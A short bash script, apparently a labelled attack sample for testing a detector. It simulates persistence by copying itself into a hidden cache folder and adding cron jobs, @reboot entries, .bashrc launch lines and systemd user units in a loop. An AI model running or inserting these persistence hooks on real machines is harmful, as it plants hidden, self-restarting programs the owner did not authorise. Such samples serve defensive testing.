#!/usr/bin/env bash
# Writes itself into places that start programs, all inside the temporary home: cron folders, shell
# profiles, user units of systemd.
# attack_type: persistence
# severity: 0.7
# arguments: ROUNDS PAUSE
# variants: 8 0.6 | 25 0.15 | 4 1.6
mkdir -p "$HOME/etc/cron.d" "$HOME/var/spool/cron" "$HOME/.config/systemd/user" "$HOME/.cache/.x"
for i in $(seq "$1"); do
  cp "$0" "$HOME/.cache/.x/agent$i" && chmod +x "$HOME/.cache/.x/agent$i"
  echo "*/5 * * * * $HOME/.cache/.x/agent$i" > "$HOME/etc/cron.d/agent$i"
  echo "@reboot $HOME/.cache/.x/agent$i" >> "$HOME/var/spool/cron/demo"
  echo "(\$HOME/.cache/.x/agent$i &)" >> "$HOME/.bashrc"
  printf '[Service]\nExecStart=%s\n' "$HOME/.cache/.x/agent$i" > "$HOME/.config/systemd/user/agent$i.service"
  cat "$HOME/.bashrc" "$HOME/etc/cron.d/"* > /dev/null
  sleep "$2"
done
